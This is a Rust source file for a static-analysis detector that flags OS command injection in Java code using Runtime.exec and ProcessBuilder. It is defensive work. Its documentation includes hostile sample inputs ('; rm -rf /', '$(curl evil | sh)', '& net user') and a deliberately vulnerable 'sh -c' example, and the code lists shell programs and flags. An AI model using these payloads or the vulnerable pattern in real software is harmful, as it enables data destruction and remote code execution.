//! `java/os-command-injection`: untrusted data choosing the program run, or reaching a shell.

use crate::analysis::{Arg, Call, CallKind, Origin, SinkKind, Value};
use crate::detectors::{describe_origin, Context, Detector, DetectorMeta, Hit};
use crate::finding::{Category, Severity};
use crate::lang::Language;

/// Flags `Runtime.exec` and `ProcessBuilder` commands made from untrusted data.
pub struct OsCommandInjection;

/// The detector instance.
pub static OS_COMMAND_INJECTION: OsCommandInjection = OsCommandInjection;

static META: DetectorMeta = DetectorMeta {
    id: "java/os-command-injection@v1.0",
    name: "OS command injection",
    language: Language::Java,
    severity: Severity::High,
    cwes: &[78, 77, 88],
    category: Category::Security,
    express: true,
    docs: r#"## What it does
Flags `Runtime.getRuntime().exec(...)`, `new ProcessBuilder(...)` and `ProcessBuilder.command(...)`
when data from an untrusted source (servlet request data, Spring request parameters, command-line
arguments, environment variables, standard input, the network) reaches the command: a command string,
the program element of a command array or list, or any element of a command that runs a shell
(`sh -c`, `bash -c`, `cmd /c`, `powershell -Command`). Separate arguments passed to a fixed program
without a shell are not flagged (the program receives them as data); neither are constant commands.

## Why is this bad?
Whoever controls the command string or the program runs code on the server with its privileges:
`; rm -rf /`, `$(curl evil | sh)` or `& net user` appended to an input is enough when a shell
interprets the text. `Runtime.exec(String)` splits the string on spaces, so input in it can still add
arguments that change the program's behaviour.

## Example
```java
String host = request.getParameter("host");
Runtime.getRuntime().exec("sh -c 'ping -c 1 " + host + "'");
```

## Use instead
```java
String host = request.getParameter("host");
if (!HOST_PATTERN.matcher(host).matches()) {
    throw new IllegalArgumentException("bad host");
}
new ProcessBuilder("ping", "-c", "1", host).start();
```

## Fix safety
No automatic fix: splitting a command into a program and separate arguments, and validating the
input, depend on what the command is meant to do.

## References
- [CWE-78: Improper Neutralization of Special Elements used in an OS Command](https://cwe.mitre.org/data/definitions/78.html)
- [CWE-77: Command Injection](https://cwe.mitre.org/data/definitions/77.html)
- [CWE-88: Argument Injection](https://cwe.mitre.org/data/definitions/88.html)
"#,
};

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "cmd",
    "cmd.exe",
    "powershell",
    "powershell.exe",
    "pwsh",
];
const SHELL_FLAGS: &[&str] = &["-c", "/c", "/C", "/k", "/K", "-Command", "-command", "-lc"];

/// Whether a constant program name is a shell (`/bin/sh`, `bash`, `cmd.exe`).
fn is_shell(program: &str) -> bool {
    let base = program.rsplit(['/', '\\']).next().unwrap_or(program);
    SHELLS.iter().any(|s| s.eq_ignore_ascii_case(base))
}

/// The element values of a command given as separate values (varargs, an array or list literal).
/// Returns the origin of the first element that makes it injectable.
fn elements_origin(elements: &[&Value]) -> Option<Origin> {
    let program = elements.first()?;
    if let Some(origin) = program.taint.tainted_for(SinkKind::Command) {
        return Some(origin.clone());
    }
    let shell = program.const_str().is_some_and(is_shell)
        && elements
            .get(1)
            .and_then(|f| f.const_str())
            .is_some_and(|f| SHELL_FLAGS.contains(&f));
    if !shell {
        return None;
    }
    elements
        .iter()
        .find_map(|e| e.taint.tainted_for(SinkKind::Command).cloned())
}

/// The origin making a single command value (string, array or list) injectable.
fn value_origin(value: &Value) -> Option<Origin> {
    let is_string = value.type_name.as_deref() == Some("java.lang.String");
    let mut indexed: Vec<(usize, &Value)> = value
        .fields
        .iter()
        .filter_map(|(k, v)| Some((k.parse::<usize>().ok()?, v)))
        .collect();
    if indexed.is_empty() || is_string {
        return value.taint.tainted_for(SinkKind::Command).cloned();
    }
    indexed.sort_by_key(|(i, _)| *i);
    let elements: Vec<&Value> = indexed.into_iter().map(|(_, v)| v).collect();
    elements_origin(&elements)
}

/// The origin making a call's command arguments injectable.
fn args_origin(args: &[Arg]) -> Option<Origin> {
    match args {
        [] => None,
        [single] => value_origin(&single.value),
        many => {
            let values: Vec<&Value> = many.iter().map(|a| &a.value).collect();
            elements_origin(&values)
        }
    }
}

/// Whether a call runs a command given by its arguments.
fn is_sink(call: &Call) -> bool {
    match call.kind {
        CallKind::Constructor => call.name == "java.lang.ProcessBuilder",
        _ => matches!(
            call.name.as_str(),
            "java.lang.Runtime.exec" | "java.lang.ProcessBuilder.command"
        ),
    }
}

impl Detector for OsCommandInjection {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }

    fn check(&self, ctx: &Context<'_>) -> Vec<Hit> {
        ctx.facts
            .calls
            .iter()
            .filter(|call| is_sink(call))
            .filter_map(|call| {
                // `exec(cmd, envp, dir)`: only the command matters.
                let command_args = if call.name == "java.lang.Runtime.exec" {
                    call.args.get(..1).unwrap_or(&[])
                } else {
                    &call.args[..]
                };
                let origin = args_origin(command_args)?;
                let range = match command_args {
                    [single] => single.range.clone(),
                    _ => call.range.clone(),
                };
                Some(
                    Hit::new(range, call.name.clone())
                        .with_anchor(call.range.clone())
                        .with_origin(Some(&origin)),
                )
            })
            .collect()
    }

    fn message(&self, ctx: &Context<'_>, hit: &Hit) -> String {
        let source = hit
            .origin
            .as_ref()
            .map_or_else(|| "untrusted data".to_string(), |o| describe_origin(ctx, o));
        let api = match hit.subject.as_str() {
            "java.lang.Runtime.exec" => "Runtime.exec",
            "java.lang.ProcessBuilder" => "new ProcessBuilder",
            _ => "ProcessBuilder.command",
        };
        format!(
            "OS command injection (CWE-78, CWE-77, CWE-88): the command passed to `{api}` is built \
             from {source}, so the input can choose what runs on the server. Run a fixed program \
             with the input as a separate argument (no `sh -c`), and validate it against an \
             allow-list."
        )
    }
}
